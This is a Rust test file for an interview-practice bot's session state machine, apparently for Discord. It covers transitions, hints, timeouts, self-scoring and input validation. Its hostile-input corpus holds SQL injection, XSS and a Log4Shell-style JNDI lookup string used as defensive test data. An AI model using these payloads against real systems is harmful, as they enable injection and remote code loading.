//! Unit and property tests of the core: every transition, rejections that change nothing, and
//! invariants over random input sequences.

use proptest::prelude::*;

use super::*;
use crate::bank::{parse_pack, Pack};

const PACK: &str = r#"
[role]
id = "tester"
name = "Tester"

[[areas]]
id = "alpha"
name = "Alpha area"

[[areas]]
id = "beta"
name = "Beta area"

[[questions]]
id = "a1"
area = "alpha"
kind = "concept"
difficulty = 1
prompt = "Explain caching."
follow_ups = ["How do you invalidate?", "What about stampedes?"]
hints = ["Think of reads.", "Think of TTLs."]
checklist = ["Names a cache", "Explains invalidation", "Mentions TTL"]
outline = "Caches trade memory for latency."
[[questions.talking_points]]
point = "Cache invalidation"
phrases = ["invalidate", "invalidation"]
[[questions.talking_points]]
point = "Expiry"
phrases = ["ttl", "time to live", "expiry"]

[[questions]]
id = "a2"
area = "alpha"
kind = "design"
difficulty = 2
prompt = "Design a queue."
checklist = ["One", "Two", "Three"]
outline = "Queues decouple producers from consumers."
[[questions.talking_points]]
point = "Backpressure"
phrases = ["backpressure", "bounded queue"]

[[questions]]
id = "b1"
area = "beta"
kind = "behavioral"
difficulty = 2
prompt = "Tell me about mentoring."
hints = ["Use STAR."]
checklist = ["Situation", "Actions", "Result"]
outline = "STAR."
[[questions.talking_points]]
point = "Result"
phrases = ["result", "outcome"]
"#;

fn me() -> ActorId {
    ActorId::local("me")
}
const T0: Millis = 1_000_000;

fn pack() -> Pack {
    parse_pack(PACK, "test.toml").expect("test pack is valid")
}

fn opts(per_area: u8, follow_ups: u8) -> PlanOptions {
    PlanOptions {
        areas: vec![],
        per_area,
        follow_ups,
        seed: 7,
    }
}

fn new_session(per_area: u8, follow_ups: u8, settings: Settings) -> Session {
    start("s1".into(), &me(), &pack(), &opts(per_area, follow_ups), settings, T0)
        .unwrap()
        .0
}

fn go(s: &Session, input: Input) -> (Session, Vec<Effect>) {
    let (next, fx) = step(s, &me(), &input, &pack(), T0 + 1000).unwrap_or_else(|r| panic!("{input:?} rejected: {r}"));
    assert_eq!(next.version, s.version + 1, "one accepted input, one version");
    (next, fx)
}

fn refused(s: &Session, actor: &ActorId, input: Input) -> Rejection {
    step(s, actor, &input, &pack(), T0 + 1000).expect_err("should be rejected")
}

fn answer(s: &Session, text: &str) -> Session {
    let (s, _) = go(s, Input::answer(text));
    go(&s, Input::Submit).0
}

/// Session positioned on the first question of a one-question-per-area plan without follow-ups.
fn simple() -> Session {
    new_session(1, 0, Settings::default())
}

#[test]
fn start_asks_the_first_question_at_version_one() {
    let (s, fx) = start("s1".into(), &me(), &pack(), &opts(2, 1), Settings::default(), T0).unwrap();
    assert_eq!(s.version, 1);
    assert_eq!(s.plan.items.len(), 3);
    assert!(matches!(s.stage, Stage::Asking { item: 0, part: 0, .. }));
    assert!(matches!(&fx[0], Effect::Started { questions: 3, .. }));
    let Effect::Ask(a) = &fx[1] else { panic!("{fx:?}") };
    assert_eq!((a.item, a.total, a.area.as_str()), (0, 3, "Alpha area"));
}

#[test]
fn plan_is_deterministic_and_validates_options() {
    let p = pack();
    assert_eq!(plan::select(&p, &opts(2, 1)).unwrap(), plan::select(&p, &opts(2, 1)).unwrap());
    let orders: std::collections::HashSet<Vec<String>> = (0..20)
        .map(|seed| {
            let o = PlanOptions { seed, ..opts(2, 0) };
            plan::select(&p, &o).unwrap().items.iter().map(|i| i.question.clone()).collect()
        })
        .collect();
    assert!(orders.len() > 1, "the seed changes the order");
    let only_beta = PlanOptions {
        areas: vec!["beta".into()],
        ..opts(3, 0)
    };
    let plan = plan::select(&p, &only_beta).unwrap();
    assert_eq!(plan.items.len(), 1, "no more questions than the area has");
    let err = plan::select(
        &p,
        &PlanOptions {
            areas: vec!["gamma".into()],
            ..opts(1, 0)
        },
    )
    .unwrap_err();
    assert_eq!(
        err,
        Rejection::UnknownArea {
            unknown: vec!["gamma".into()],
            role: p.role.name.clone(),
            available: vec!["alpha".into(), "beta".into()],
        }
    );
    assert!(plan::select(&p, &opts(0, 0)).is_err());
    assert!(plan::select(&p, &opts(9, 0)).is_err());
}

#[test]
fn answer_text_accumulates_into_a_draft() {
    let s = simple();
    let (s, fx) = go(&s, Input::answer("first"));
    assert_eq!(fx, vec![Effect::DraftSaved { chars: 5 }]);
    let (s, _) = go(&s, Input::answer("second"));
    let Stage::Asking { draft, .. } = &s.stage else { panic!() };
    assert_eq!(draft, "first\nsecond");
}

#[test]
fn empty_and_oversized_input_is_refused_without_change() {
    let s = simple();
    let r = refused(&s, &me(), Input::answer("  \n "));
    assert_eq!(r, Rejection::EmptyMessage);
    let r = refused(&s, &me(), Input::Submit);
    assert_eq!(r, Rejection::EmptyAnswer);
    let big = "x".repeat(MAX_ANSWER_CHARS + 1);
    let r = refused(&s, &me(), Input::SubmitForm { text: big.clone() });
    assert_eq!(
        r,
        Rejection::TooLong {
            chars: MAX_ANSWER_CHARS + 1,
            max: 20000
        }
    );
    let (s2, _) = go(&s, Input::answer("x".repeat(MAX_ANSWER_CHARS - 3)));
    let r = refused(&s2, &me(), Input::answer("more text"));
    assert!(matches!(r, Rejection::DraftTooLong { max: 20000, .. }), "{r}");
}

#[test]
fn submit_moves_through_follow_ups_then_to_scoring() {
    let s = new_session(1, 2, Settings::default());
    let parts = s.plan.items[0].parts();
    let mut s = s;
    for part in 0..parts {
        let (next, _) = go(&s, Input::answer(format!("answer {part}")));
        let (next, fx) = go(&next, Input::Submit);
        assert!(matches!(fx[0], Effect::Submitted { part: p, .. } if p == part));
        s = next;
    }
    assert!(matches!(s.stage, Stage::Scoring { item: 0, ticks: None }));
    assert_eq!(s.items[0].answers.len(), parts);
}

#[test]
fn form_answer_replaces_the_draft() {
    let s = simple();
    let (s, _) = go(&s, Input::answer("typed"));
    let (s, _) = go(
        &s,
        Input::SubmitForm {
            text: "from the form".into(),
        },
    );
    let item = &s.items[0];
    assert_eq!(item.answers[0].text, "from the form");
}

#[test]
fn hints_run_out() {
    let s = new_session(1, 0, Settings::default());
    // item 0 is a1 or a2 depending on the seed; find a session whose first item has two hints
    let mut s = s;
    if s.plan.items[0].question != "a1" {
        s = start(
            "s1".into(),
            &me(),
            &pack(),
            &PlanOptions { seed: 1, ..opts(1, 0) },
            Settings::default(),
            T0,
        )
        .unwrap()
        .0;
        for seed in 2..50 {
            if s.plan.items[0].question == "a1" {
                break;
            }
            s = start(
                "s1".into(),
                &me(),
                &pack(),
                &PlanOptions { seed, ..opts(1, 0) },
                Settings::default(),
                T0,
            )
            .unwrap()
            .0;
        }
    }
    assert_eq!(s.plan.items[0].question, "a1");
    let (s, fx) = go(&s, Input::Hint);
    assert_eq!(
        fx,
        vec![Effect::Hint {
            text: "Think of reads.".into(),
            number: 1,
            of: 2
        }]
    );
    let (s, _) = go(&s, Input::Hint);
    assert_eq!(s.items[0].hints_used, 2);
    assert_eq!(refused(&s, &me(), Input::Hint), Rejection::NoMoreHints);
}

#[test]
fn skip_main_question_skips_the_item() {
    let s = simple();
    let (s, fx) = go(&s, Input::Skip);
    assert!(s.items[0].skipped);
    assert!(matches!(fx[0], Effect::Skipped { item: 0, timed_out: false }));
    assert!(matches!(s.stage, Stage::Asking { item: 1, part: 0, .. }));
}

#[test]
fn skip_follow_up_goes_to_scoring_and_skip_scoring_goes_on() {
    let s = new_session(1, 2, Settings::default());
    let s = answer(&s, "main answer");
    let (s, fx) = go(&s, Input::Skip);
    assert!(matches!(s.stage, Stage::Scoring { item: 0, .. }), "{:?}", s.stage);
    assert!(matches!(fx[0], Effect::Rubric { .. }));
    let (s, fx) = go(&s, Input::Skip);
    assert!(matches!(fx[0], Effect::Feedback(Feedback { rating: None, .. })));
    assert!(s.items[0].self_score.is_none());
    assert!(matches!(s.stage, Stage::Asking { item: 1, .. }));
}

#[test]
fn repeat_shows_the_current_prompt_again() {
    let s = simple();
    let (s, _) = go(&s, Input::answer("draft"));
    let (s2, fx) = go(&s, Input::Repeat);
    let Effect::Ask(a) = &fx[0] else { panic!() };
    assert!(a.repeat);
    assert_eq!(a.draft_chars, 5);
    assert_eq!(s2.stage, s.stage);
}

#[test]
fn pause_keeps_the_draft_and_typing_resumes() {
    let s = simple();
    let (s, _) = go(&s, Input::answer("half"));
    let (s, fx) = go(&s, Input::Pause);
    assert_eq!(fx, vec![Effect::Paused { idle: false }]);
    assert_eq!(refused(&s, &me(), Input::Pause), Rejection::AlreadyPaused);
    let (s, fx) = go(&s, Input::answer("rest"));
    assert_eq!(fx[0], Effect::Resumed);
    let Stage::Asking { draft, .. } = &s.stage else { panic!() };
    assert_eq!(draft, "half\nrest");
    assert_eq!(refused(&s, &me(), Input::Resume), Rejection::NotPaused);
    let (s, _) = go(&s, Input::Pause);
    let (s, fx) = go(&s, Input::Resume);
    assert!(matches!(fx[1], Effect::Ask(Ask { repeat: true, .. })));
    assert!(matches!(s.stage, Stage::Asking { .. }));
}

#[test]
fn end_keeps_the_unsubmitted_draft_and_summarises() {
    let s = simple();
    let (s, _) = go(&s, Input::answer("my unsent words"));
    let (s, fx) = go(&s, Input::End);
    assert!(matches!(s.stage, Stage::Finished { .. }));
    assert_eq!(s.items[0].answers[0].text, "my unsent words");
    let Effect::Finished(sum) = &fx[0] else { panic!() };
    assert_eq!(sum.overall.asked, 1);
    assert_eq!(sum.overall.answered, 1);
}

#[test]
fn self_scoring_checks_ticks_and_rating() {
    let s = simple();
    let s = answer(&s, "We invalidate on write and set a TTL.");
    assert_eq!(refused(&s, &me(), Input::answer("more")), Rejection::AwaitingSelfScore);
    assert_eq!(
        refused(&s, &me(), Input::Checklist { ticks: vec![0, 3] }),
        Rejection::NoSuchChecklistItem { number: 4, of: 3 }
    );
    let (s, fx) = go(&s, Input::Checklist { ticks: vec![2, 0, 2] });
    assert_eq!(fx, vec![Effect::AskRating { item: 0, ticked: 2, of: 3 }]);
    assert_eq!(refused(&s, &me(), Input::Rate { rating: 5 }), Rejection::BadRating { got: 5 });
    let (s, fx) = go(&s, Input::Rate { rating: 3 });
    let Effect::Feedback(f) = &fx[0] else { panic!() };
    assert_eq!(f.ticks, vec![0, 2]);
    assert_eq!(f.rating.map(Rating::get), Some(3));
    let score = s.items[0].self_score.as_ref().unwrap();
    assert_eq!(score.ticks, vec![0, 2]);
    assert!(matches!(s.stage, Stage::Asking { item: 1, .. }));
}

#[test]
fn coverage_is_recorded_with_the_answer() {
    let p = pack();
    let s = simple();
    let q = p.question(&s.plan.items[0].question).unwrap();
    let words: Vec<String> = q.talking_points.iter().map(|t| t.phrases[0].clone()).collect();
    let s = answer(&s, &format!("It comes down to {}.", words.join(" and ")));
    let cov = s.items[0].coverage.as_ref().unwrap();
    assert_eq!(cov.covered(), q.talking_points.len());
}

#[test]
fn only_the_candidate_acts_and_only_the_system_ticks() {
    let s = simple();
    let r = refused(&s, &ActorId::from_stored("discord:stranger"), Input::answer("hi"));
    assert_eq!(r, Rejection::NotCandidate);
    assert_eq!(refused(&s, &me(), Input::Clock), Rejection::NotClock);
    assert_eq!(refused(&s, &ActorId::system(), Input::Skip), Rejection::NotCandidate);
}

#[test]
fn time_limit_submits_the_draft_or_skips() {
    let settings = Settings {
        time_limit_secs: Some(60),
        ..Settings::default()
    };
    let s = new_session(1, 0, settings);
    let p = pack();
    let r = step(&s, &ActorId::system(), &Input::Clock, &p, T0 + 59_000).unwrap_err();
    assert!(r.is_quiet());
    let (s2, fx) = step(&s, &ActorId::system(), &Input::Clock, &p, T0 + 60_000).unwrap();
    assert_eq!(fx[0], Effect::TimeUp { item: 0 });
    assert!(s2.items[0].skipped);
    let (with_draft, _) = step(&s, &me(), &Input::answer("partial"), &p, T0 + 1).unwrap();
    let (s3, _) = step(&with_draft, &ActorId::system(), &Input::Clock, &p, T0 + 61_000).unwrap();
    assert_eq!(s3.items[0].answers[0].text, "partial");
    assert!(matches!(s3.stage, Stage::Scoring { .. }));
    // A late submit is accepted and flagged.
    let (late, _) = step(&with_draft, &me(), &Input::Submit, &p, T0 + 90_000).unwrap();
    assert!(late.items[0].answers[0].over_time);
}

#[test]
fn idle_sessions_pause_then_abandon() {
    let settings = Settings {
        time_limit_secs: None,
        idle_pause_secs: 60,
        idle_abandon_secs: 3600,
        ..Settings::default()
    };
    let s = new_session(1, 0, settings);
    let p = pack();
    assert_eq!(s.next_deadline(), Some(T0 + 60_000));
    let (s, fx) = step(&s, &ActorId::system(), &Input::Clock, &p, T0 + 60_000).unwrap();
    assert_eq!(fx, vec![Effect::Paused { idle: true }]);
    assert_eq!(s.next_deadline(), Some(T0 + 60_000 + 3_600_000));
    assert!(step(&s, &ActorId::system(), &Input::Clock, &p, T0 + 61_000).unwrap_err().is_quiet());
    let (s, fx) = step(&s, &ActorId::system(), &Input::Clock, &p, T0 + 3_660_000).unwrap();
    assert_eq!(fx, vec![Effect::Abandoned]);
    assert!(matches!(s.stage, Stage::Abandoned { .. }));
    assert_eq!(s.next_deadline(), None);
}

#[test]
fn a_finished_session_accepts_nothing() {
    let s = simple();
    let (s, _) = go(&s, Input::End);
    for input in [Input::answer("late"), Input::Submit, Input::Resume, Input::End] {
        assert_eq!(refused(&s, &me(), input), Rejection::Ended);
    }
}

#[test]
fn summary_groups_by_area() {
    let s = new_session(2, 0, Settings::default());
    let mut s = answer(&s, "We invalidate and use a ttl.");
    s = go(&s, Input::Checklist { ticks: vec![0] }).0;
    s = go(&s, Input::Rate { rating: 4 }).0;
    s = go(&s, Input::Skip).0; // second alpha question
    s = answer(&s, "The result was good.");
    s = go(&s, Input::Checklist { ticks: vec![0, 1, 2] }).0;
    let (_, fx) = go(&s, Input::Rate { rating: 2 });
    let Some(Effect::Finished(sum)) = fx.last() else { panic!("{fx:?}") };
    assert_eq!(sum.areas.len(), 2);
    let alpha = &sum.areas[0].totals;
    assert_eq!((alpha.asked, alpha.answered, alpha.skipped, alpha.rated), (2, 1, 1, 1));
    assert_eq!(alpha.mean_rating(), Some(4.0));
    assert_eq!(sum.overall.mean_rating(), Some(3.0));
    assert_eq!(sum.overall.band(), Some("lean hire"));
    assert_eq!(sum.overall.ticked, 4);
}

fn input_strategy() -> impl Strategy<Value = (u8, Input)> {
    let text = prop_oneof![
        Just(String::new()),
        Just("  ".to_string()),
        "[a-z ]{1,40}",
        Just("x".repeat(MAX_ANSWER_CHARS))
    ];
    let input = prop_oneof![
        4 => text.clone().prop_map(Input::answer),
        2 => (text.clone(), 0u64..8).prop_map(|(text, id)| Input::Answer { text, message: Some(id) }),
        1 => (text.clone(), 0u64..8).prop_map(|(text, message)| Input::EditMessage { message, text }),
        1 => (0u64..8).prop_map(|message| Input::RetractMessage { message }),
        3 => Just(Input::Submit),
        1 => text.prop_map(|text| Input::SubmitForm { text }),
        1 => Just(Input::Hint),
        1 => Just(Input::Skip),
        1 => Just(Input::Repeat),
        1 => Just(Input::Pause),
        1 => Just(Input::Resume),
        1 => prop::collection::vec(0u8..6, 0..4).prop_map(|ticks| Input::Checklist { ticks }),
        2 => (0u8..6).prop_map(|rating| Input::Rate { rating }),
        1 => Just(Input::Clock),
        1 => Just(Input::End),
    ];
    // actor: mostly the candidate, sometimes a stranger or the system
    (0u8..10, input)
}

proptest! {
    #[test]
    fn random_inputs_keep_the_invariants(inputs in prop::collection::vec((input_strategy(), 0i64..4_000_000), 1..80)) {
        let p = pack();
        let settings = Settings { time_limit_secs: Some(120), idle_pause_secs: 600, idle_abandon_secs: 3600, ..Settings::default() };
        let mut s = new_session(2, 2, settings);
        let mut now = T0;
        for ((who, input), dt) in inputs {
            now += dt;
            let actor = match who { 0 => ActorId::from_stored("discord:stranger"), 1 => ActorId::system(), _ => me() };
            let actor = if input == Input::Clock && who != 0 { ActorId::system() } else { actor };
            let was_over = s.stage.is_over();
            if let Ok((next, _)) = step(&s, &actor, &input, &p, now) {
                prop_assert!(!was_over, "a finished session accepted {:?}", input);
                prop_assert_eq!(next.version, s.version + 1);
                s = next;
            }
            for rec in &s.items {
                if rec.self_score.is_some() {
                    prop_assert!(!rec.answers.is_empty(), "a score exists only for an answered question");
                }
                for a in &rec.answers {
                    prop_assert!(!a.text.trim().is_empty());
                    prop_assert!(a.text.chars().count() <= MAX_ANSWER_CHARS);
                }
            }
        }
    }
}

#[test]
fn snapshots_and_events_written_with_plain_actor_strings_still_load() {
    let snapshot = r#"{"id":"old","candidate":"discord:1",
        "plan":{"role":"r","items":[{"question":"q1","area":"alpha","follow_ups":[]}]},
        "settings":{"time_limit_secs":null,"idle_pause_secs":1800,"idle_abandon_secs":604800},
        "stage":{"stage":"finished","at":5},
        "items":[{"asked":true,"answers":[],"skipped":false,"hints_used":0,"coverage":null,"self_score":null}],
        "version":3,"created_at":1,"last_activity":2,
        "peer":{"host":"discord:2","reviewers":[{"actor":"discord:3","joined_at":1,"active":true,"removed":false}],
            "rounds":[null],"scoring_secs":600,"asynchronous":false,"reported":false}}"#;
    let s: Session = serde_json::from_str(snapshot).expect("an old snapshot loads");
    assert_eq!(s.candidate, ActorId::discord(1));
    assert_eq!(s.candidate.discord_user(), Some(1));
    let peer = s.peer.as_ref().expect("peer");
    assert_eq!(peer.host, ActorId::discord(2));
    assert_eq!(peer.reviewers[0].actor, ActorId::discord(3));
    assert!(serde_json::to_string(&s).unwrap().contains(r#""candidate":"discord:1""#));
    let input: Input = serde_json::from_str(r#"{"type":"remove_reviewer","reviewer":"discord:3"}"#).unwrap();
    assert_eq!(
        input,
        Input::RemoveReviewer {
            reviewer: ActorId::discord(3)
        }
    );
}

/// The layer list in `mod.rs`'s doc is the rule: every `super::` path in a module's code names a
/// module of a lower layer, so no two modules import each other, directly or in a cycle.
#[test]
fn modules_import_only_lower_layers() {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/src/interview");
    let doc = std::fs::read_to_string(format!("{dir}/mod.rs")).unwrap();
    let layers: Vec<Vec<String>> = doc
        .lines()
        .skip_while(|l| !l.starts_with("//! Layers"))
        .take_while(|l| l.starts_with("//!"))
        .skip(2)
        .map(|l| l.trim_start_matches("//!"))
        .collect::<String>()
        .split('→')
        .map(|layer| layer.split('`').skip(1).step_by(2).map(String::from).collect())
        .collect();
    let layer_of = |m: &str| layers.iter().position(|l| l.iter().any(|x| x == m));
    let modules: Vec<&str> = doc
        .lines()
        .filter_map(|l| l.strip_prefix("pub mod ").or_else(|| l.strip_prefix("mod ")))
        .map(|l| l.trim_end_matches(';'))
        .filter(|m| !m.ends_with("tests"))
        .collect();
    assert!(modules.len() > 10, "{modules:?}");
    for m in modules {
        let own = layer_of(m).unwrap_or_else(|| panic!("module {m} is in no layer of {layers:?}"));
        let path = match m {
            "coverage" => format!("{dir}/coverage/mod.rs"),
            _ => format!("{dir}/{m}.rs"),
        };
        let src = std::fs::read_to_string(&path).unwrap();
        let code = src.split("#[cfg(test)]").next().unwrap_or_default();
        for line in code.lines().filter(|l| !l.trim_start().starts_with("//")) {
            for (i, prefix) in line.match_indices("super::").chain(line.match_indices("crate::interview::")) {
                let rest = &line[i + prefix.len()..];
                let name: String = rest.chars().take_while(|c| c.is_alphanumeric() || *c == '_').collect();
                let Some(theirs) = layer_of(&name) else {
                    panic!("{m}: `{prefix}{rest}`: import from the module that owns it");
                };
                assert!(theirs < own, "{m} (layer {own}) imports {name} (layer {theirs})");
            }
        }
    }
}

/// What a hostile or odd answer must come to.
#[derive(Debug)]
enum Expect {
    /// Nothing a reader would see: refused as empty, nothing changes.
    Empty,
    /// Accepted; this is the text stored.
    Stored(&'static str),
    /// Longer than an answer may be.
    TooLong,
}

/// The corpus of hostile and odd answers (issue "Safe under bad input"): each typed as a
/// message then submitted, and each sent as a form.
fn hostile_corpus() -> Vec<(String, Expect)> {
    use Expect::*;
    let mut out: Vec<(String, Expect)> = [
        ("", Empty),
        ("   ", Empty),
        ("\n\n\t", Empty),
        ("\r\n", Empty),
        ("\u{200B}", Empty),
        ("\u{2800}\u{2800}", Empty),
        ("\u{3164}", Empty),
        ("\u{200B} \u{FEFF} \u{2060}", Empty),
        ("\u{0000}", Empty),
        ("\u{0000}\u{0000}\u{0000}", Empty),
        ("\u{0007}\u{0008}\u{001B}", Empty),
        ("\u{202E}", Empty),
        ("\u{115F}\u{1160}\u{FFA0}", Empty),
        ("\u{00AD}", Empty),
        ("\u{FE0F}", Empty),
        ("\u{180E}\u{034F}", Empty),
        ("\u{2066}\u{2069}", Empty),
        ("a\u{0000}b", Stored("ab")),
        ("\u{0000}\u{0000}ok", Stored("ok")),
        ("line one\u{0001}\nline two", Stored("line one\nline two")),
        ("a\r\nb", Stored("a\nb")),
        ("tab\tinside", Stored("tab\tinside")),
        ("\u{202E}reversed on screen", Stored("\u{202E}reversed on screen")),
        (
            "Z\u{0337}\u{0322}a\u{0334}l\u{0336}g\u{0337}o\u{0336}",
            Stored("Z\u{0337}\u{0322}a\u{0334}l\u{0336}g\u{0337}o\u{0336}"),
        ),
        ("😀🎉", Stored("😀🎉")),
        ("\u{1F469}\u{200D}\u{1F4BB}", Stored("\u{1F469}\u{200D}\u{1F4BB}")),
        ("@everyone look at this", Stored("@everyone look at this")),
        ("<@123> <@&456> @here", Stored("<@123> <@&456> @here")),
        ("```\nan unclosed fence", Stored("```\nan unclosed fence")),
        ("||an unclosed spoiler", Stored("||an unclosed spoiler")),
        ("/interview end", Stored("/interview end")),
        ("//submit", Stored("//submit")),
        ("مرحبا بالعالم", Stored("مرحبا بالعالم")),
        ("\u{FEFF}text after a BOM", Stored("\u{FEFF}text after a BOM")),
        ("SELECT * FROM sessions; --", Stored("SELECT * FROM sessions; --")),
        ("<script>alert(1)</script>", Stored("<script>alert(1)</script>")),
        ("${jndi:ldap://example.invalid/a}", Stored("${jndi:ldap://example.invalid/a}")),
        ("\u{FFFD}", Stored("\u{FFFD}")),
        ("  padded  ", Stored("padded")),
    ]
    .into_iter()
    .map(|(t, e)| (t.to_string(), e))
    .collect();
    out.push(("x".repeat(MAX_ANSWER_CHARS), Stored("")));
    out.push(("x".repeat(MAX_ANSWER_CHARS + 1), TooLong));
    out
}

#[test]
fn hostile_and_odd_answers_are_stored_cleanly_or_refused_without_change() {
    let corpus = hostile_corpus();
    assert!(corpus.len() >= 40, "the corpus has {} inputs", corpus.len());
    for (text, expect) in &corpus {
        let s = simple();
        let typed = step(&s, &me(), &Input::answer(text.clone()), &pack(), T0 + 1000);
        let form = step(&s, &me(), &Input::SubmitForm { text: text.clone() }, &pack(), T0 + 1000);
        let shown = text.escape_debug().to_string();
        match expect {
            Expect::Empty => {
                assert_eq!(typed.err(), Some(Rejection::EmptyMessage), "typed {shown}");
                assert_eq!(form.err(), Some(Rejection::EmptyAnswer), "form {shown}");
            }
            Expect::TooLong => {
                assert!(matches!(typed, Err(Rejection::DraftTooLong { .. })), "typed {shown}");
                assert!(matches!(form, Err(Rejection::TooLong { .. })), "form {shown}");
            }
            Expect::Stored(want) => {
                let want = if want.is_empty() { text.as_str() } else { want };
                let (typed, _) = typed.unwrap_or_else(|r| panic!("typed {shown}: {r}"));
                let (submitted, _) = go(&typed, Input::Submit);
                let (form, _) = form.unwrap_or_else(|r| panic!("form {shown}: {r}"));
                for (how, stored) in [("typed", &submitted), ("form", &form)] {
                    assert_eq!(stored.items[0].answers.len(), 1, "{how} {shown}");
                    let kept = &stored.items[0].answers[0].text;
                    assert_eq!(kept, want, "{how} {shown}");
                    assert!(!kept.contains('\u{0}'), "{how} {shown}: no NUL reaches the store");
                }
            }
        }
    }
}

#[test]
fn typed_parts_keep_send_order_and_can_be_edited_or_taken_back_until_submitted() {
    let s = simple();
    let typed = |s: &Session, id: u64, text: &str| {
        go(
            s,
            Input::Answer {
                text: text.into(),
                message: Some(id),
            },
        )
        .0
    };
    let draft = |s: &Session| match &s.stage {
        Stage::Asking { draft, .. } => draft.clone(),
        other => panic!("{other:?}"),
    };
    // Delivered out of order (concurrent messages): read in send (id) order.
    let s = typed(&s, 30, "third");
    let s = typed(&s, 10, "first");
    let s = typed(&s, 20, "my API key is sk-123");
    assert_eq!(draft(&s), "first\nmy API key is sk-123\nthird");
    let (s, _) = go(&s, Input::RetractMessage { message: 20 });
    assert_eq!(draft(&s), "first\nthird", "a deleted message leaves the draft");
    let (s, _) = go(
        &s,
        Input::EditMessage {
            message: 30,
            text: "third, edited".into(),
        },
    );
    assert_eq!(draft(&s), "first\nthird, edited");
    assert_eq!(refused(&s, &me(), Input::RetractMessage { message: 99 }), Rejection::NotInDraft);
    assert!(Rejection::NotInDraft.is_quiet());
    let (submitted, _) = go(&s, Input::Submit);
    assert_eq!(submitted.items[0].answers[0].text, "first\nthird, edited");
    assert_eq!(
        refused(
            &submitted,
            &me(),
            Input::EditMessage {
                message: 10,
                text: "changed later".into()
            }
        ),
        Rejection::NotInDraft,
        "after submit, the stored answer is what was submitted"
    );
}

#[test]
fn a_step_copies_only_the_item_record_it_changes() {
    let s = simple();
    let n = s.items.len();
    assert!(n >= 2, "the plan has {n} items");
    // Typing changes the draft, not a record: every record stays shared.
    let (typed, _) = go(&s, Input::answer("a cache trades memory for latency"));
    assert!((0..n).all(|i| typed.items.shared_with(&s.items, i)));
    // Submitting changes the first record (answer, coverage) and moves on to scoring it; the
    // others stay shared, and the session it came from keeps its own first record untouched.
    let (submitted, _) = go(&typed, Input::Submit);
    assert!(!submitted.items.shared_with(&typed.items, 0));
    assert!((1..n).all(|i| submitted.items.shared_with(&typed.items, i)));
    assert_eq!(submitted.items[0].answers.len(), 1);
    assert!(typed.items[0].answers.is_empty());
    // The snapshot reads as the plain list of records it always was.
    let json = serde_json::to_value(&submitted).unwrap();
    assert_eq!(json["items"].as_array().map(Vec::len), Some(n));
    let back: Session = serde_json::from_value(json).unwrap();
    assert_eq!(back, submitted);
}
